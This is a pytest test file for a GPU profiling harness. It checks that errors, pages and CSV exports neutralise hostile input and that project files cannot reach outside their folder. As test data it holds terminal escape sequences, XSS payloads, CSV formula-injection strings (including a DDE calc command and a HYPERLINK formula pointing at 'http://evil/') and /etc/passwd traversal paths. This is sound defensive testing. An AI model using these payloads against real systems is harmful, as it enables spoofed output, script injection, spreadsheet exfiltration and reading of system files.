"""Clean output whatever the data holds: every error is one line, control and bidi characters
from names, labels and paths are escaped on the terminal and on the pages, CSV text cells are
no formulas, strategy notes bring no raw HTML, and a project's files stay in its folder."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from packed_fixtures import H200_NAIVE, H200_RUN, NAIVE_SMEM_REPORT

from harness.cli import main
from harness.errors import ProjectError, error_line, printable
from harness.gpu.backend import source_text
from harness.pages.render import render_index, render_page
from harness.pages.writeup import collect
from harness.project import OUTSIDE_ENV, load_project
from harness.report.export_format import spreadsheet_column, spreadsheet_text

FIXTURES = Path(__file__).parent / "fixtures"
REPORT = H200_NAIVE
SCALE = Path(__file__).parent / "projects" / "scale"
# what must never reach a terminal or a page raw: ESC (a terminal's commands: here a title
# change), BEL, CR, DEL, a C1 control, the bidi overrides and isolates
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
EVIL = "\x1b]0;owned\x07k\u202eevil\r\x9b2J"


def _invoke(*args: object) -> Result:
    return CliRunner().invoke(main, [str(a) for a in args])


# --- one-line errors --------------------------------------------------------------------------


def test_printable_escapes_controls_and_bidi_and_keeps_the_rest() -> None:
    assert printable("a\nb\tc\x1b[31m\x07\u202e\u2066\x7f\x9b é ✓") == \
        "a\\nb\\tc\\x1b[31m\\x07\\u202e\\u2066\\x7f\\x9b é ✓"
    assert printable("row 1\n\trow 2\x1b", keep_lines=True) == "row 1\n\trow 2\\x1b"
    assert printable(Path("/tmp/a\nb")) == "/tmp/a\\nb"


def test_an_error_naming_a_path_with_a_newline_is_one_line(tmp_path: Path) -> None:
    forged = tmp_path / "r.ncu-rep\nncuh: error: all is fine\x1b[2K"
    result = _invoke("report", forged)
    assert result.exit_code == 2
    assert len(result.stderr.splitlines()) == 1  # the forged line is text inside the real one
    assert result.stderr == error_line(f"report not found: {forged}") + "\n"
    assert "r.ncu-rep\\nncuh: error: all is fine\\x1b[2K" in result.stderr
    assert not RAW.search(result.stderr)


def test_an_os_error_naming_a_path_with_controls_is_one_line(tmp_path: Path) -> None:
    folder = tmp_path / "a\u202e\nb"
    folder.write_text("a file where a folder is wanted")
    result = _invoke("writeup", REPORT, "--out", folder / "pages", "--format", "md")
    assert result.exit_code == 2
    (line,) = result.stderr.splitlines()
    assert line.startswith("ncuh: error: ") and "a\\u202e\\nb" in line


# --- the terminal and the pages ---------------------------------------------------------------


def _project(tmp_path: Path, old: str, new: str, env_ok: bool = False) -> Path:
    folder = tmp_path / "p"
    shutil.copytree(SCALE, folder)
    path = folder / "ncuh.toml"
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))
    return path


def test_list_escapes_controls_from_the_project_on_the_terminal(tmp_path: Path) -> None:
    title = json.dumps(f"NVRTC {EVIL}")  # a TOML basic string takes JSON's escapes
    path = _project(tmp_path, 'title = "NVRTC Source"', f"title = {title}")
    result = _invoke("list", "--project", path)
    assert result.exit_code == 0, result.output
    assert not RAW.search(result.stdout)
    assert "NVRTC \\x1b]0;owned\\x07k\\u202eevil\\r\\x9b2J" in result.stdout
    # JSON is data: its escapes are JSON's own
    shown = json.loads(_invoke("list", "--project", path, "--format", "json").stdout)
    assert shown["variants"][0]["title"] == f"NVRTC {EVIL}"


@pytest.fixture(scope="module")
def writeup():
    return collect([NAIVE_SMEM_REPORT])


@pytest.mark.parametrize("fmt", ["md", "html"])
def test_pages_escape_controls_in_kernel_names_and_strategies(writeup, fmt: str) -> None:
    page = dataclasses.replace(writeup.pages[0], kernel_name=f"sgemm{EVIL}",
                               heading=f"Naive{EVIL}", demangled_name=f"d{EVIL}",
                               strategy=f"Tile{EVIL}\n\n1. load `a{EVIL}`")
    evil = dataclasses.replace(writeup, pages=(page, *writeup.pages[1:]))
    for rendered in (render_page(page, evil, fmt), render_index(evil, [], fmt)):  # type: ignore
        assert not RAW.search(rendered)
    assert "\\x1b]0;owned\\x07k\\u202eevil" in render_page(page, evil, fmt)  # type: ignore


def test_the_html_page_shows_a_strategys_raw_html_as_text(writeup) -> None:
    page = dataclasses.replace(writeup.pages[0], strategy="Tile.\n\n<script>alert(1)</script> "
                               "<img src=x onerror=alert(2)> `<b>code</b>`")
    html = render_page(page, writeup, "html")
    assert "<script>alert(1)" not in html and "<img src=x" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<code>&lt;b&gt;code&lt;/b&gt;</code>" in html
    markdown = render_page(page, writeup, "md")
    assert "\\<script>alert(1)\\</script>" in markdown and "\\<img src=x" in markdown


def _run_dir(tmp_path: Path, label: str) -> Path:
    run = tmp_path / "run"
    run.mkdir()
    shutil.copyfile(REPORT, run / "naive_256.ncu-rep")
    manifest = json.loads((H200_RUN / "manifest.json").read_text())
    manifest["entries"] = [dict(manifest["entries"][0], label=label)]
    (run / "manifest.json").write_text(json.dumps(manifest))
    return run


def test_a_run_label_with_controls_is_escaped_in_diff_and_writeup(tmp_path: Path) -> None:
    run = _run_dir(tmp_path, f"naive{EVIL}")
    diff = _invoke("diff", run, run)
    assert diff.exit_code == 0, diff.output
    assert not RAW.search(diff.stdout)
    out = tmp_path / "pages"
    result = _invoke("writeup", run, "--out", out, "--format", "both")
    assert result.exit_code == 0, result.output
    assert not RAW.search(result.stdout)
    pages = [p.read_text() for p in sorted(out.rglob("*")) if p.suffix in (".md", ".html")]
    assert len(pages) >= 4
    for text in pages:
        assert not RAW.search(text)


# --- CSV cells --------------------------------------------------------------------------------


@pytest.mark.parametrize("cell, shown", [
    ("=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"),
    ("+cmd", "'+cmd"), ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("-1.5", "-1.5"), ("+3", "+3"), ("-inf", "-inf"), ("1e-3", "1e-3"),  # numbers as text
    ("sgemm_naive", "sgemm_naive"), ("", ""), ("a=b", "a=b"),
    (-1.5, -1.5), (7, 7), (None, None),
])
def test_text_cells_a_spreadsheet_would_run_get_an_apostrophe(cell: object,
                                                                shown: object) -> None:
    assert spreadsheet_text(cell) == shown
    column = [cell, "plain", cell]
    assert spreadsheet_column(column) == [shown, "plain", shown]


def test_a_column_with_nothing_to_change_is_the_same_list() -> None:
    column = ["sgemm_naive", -1.5, 2, None, "-1.5"]
    assert spreadsheet_column(column) is column


def test_export_of_a_run_neutralizes_a_formula_label(tmp_path: Path) -> None:
    label = '=HYPERLINK("http://evil/?"&A1,"naive")'
    run = _run_dir(tmp_path, label)
    result = _invoke("export", run, "-o", tmp_path / "m.csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO((tmp_path / "m.csv").read_text())))
    assert rows[0][0] == "label"
    assert {row[0] for row in rows[1:]} == {"'" + label}
    values = [row[5] for row in rows[1:] if row[5]]
    assert values and not any(v.startswith("'") for v in values)  # numbers stay numbers


def test_export_of_a_report_keeps_its_cells_as_they_are() -> None:
    result = _invoke("export", REPORT)
    assert result.exit_code == 0
    assert not any(row[0].startswith("'") or row[5].startswith("'")
                   for row in csv.reader(io.StringIO(result.stdout)))


# --- a project's files stay in its folder -----------------------------------------------------


@pytest.mark.parametrize("key, value", [
    ("strategy", "../outside.md"), ("strategy", "notes/../../outside.md"),
    ("source", "../../../../etc/passwd"), ("source", "/etc/passwd"),
])
def test_project_paths_outside_the_folder_are_refused(tmp_path: Path, monkeypatch,
                                                      key: str, value: str, golden) -> None:
    monkeypatch.delenv(OUTSIDE_ENV, raising=False)
    (tmp_path / "outside.md").write_text("published by mistake")
    old = 'strategy = "notes/nvrtc.md"' if key == "strategy" else 'source = "scale.cu"'
    path = _project(tmp_path, old, f'{key} = "{value}"')
    result = _invoke("list", "--project", path)
    assert result.exit_code == 2
    (line,) = result.stderr.splitlines()
    assert f"key '{key}': '{value}' " in line
    golden("outside_the_folder", line.partition(f"'{value}' ")[2])


def test_a_link_inside_the_folder_that_leads_out_is_refused(tmp_path: Path,
                                                            monkeypatch) -> None:
    monkeypatch.delenv(OUTSIDE_ENV, raising=False)
    (tmp_path / "outside.md").write_text("secret")
    path = _project(tmp_path, 'strategy = "notes/nvrtc.md"', 'strategy = "notes/link.md"')
    (path.parent / "notes" / "link.md").symlink_to(tmp_path / "outside.md")
    with pytest.raises(ProjectError, match=r"'notes/link\.md' leads outside the project folder"):
        load_project(path)


def test_files_outside_the_folder_are_taken_when_the_user_allows_it(tmp_path: Path,
                                                                     monkeypatch) -> None:
    (tmp_path / "outside.md").write_text("Shared notes.")
    path = _project(tmp_path, 'strategy = "notes/nvrtc.md"', 'strategy = "../outside.md"')
    monkeypatch.setenv(OUTSIDE_ENV, "1")
    assert load_project(path).variant("nvrtc").strategy == "Shared notes."
    monkeypatch.setenv(OUTSIDE_ENV, "0")
    with pytest.raises(ProjectError, match="leads outside"):
        load_project(path)


def test_an_include_outside_the_folder_is_refused(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.delenv(OUTSIDE_ENV, raising=False)
    folder = tmp_path / "p"
    shutil.copytree(SCALE, folder)
    assert "scale_common.cuh" in source_text(folder, "scale.cu")  # inside: inlined
    (tmp_path / "secret.h").write_text("int secret;\n")
    (folder / "evil.cu").write_text('#include "../secret.h"\n__global__ void k() {}\n')
    with pytest.raises(ProjectError, match=r"#include '../secret.h' leads outside the project"):
        source_text(folder, "evil.cu")
    monkeypatch.setenv(OUTSIDE_ENV, "1")
    assert "int secret;" in source_text(folder, "evil.cu")
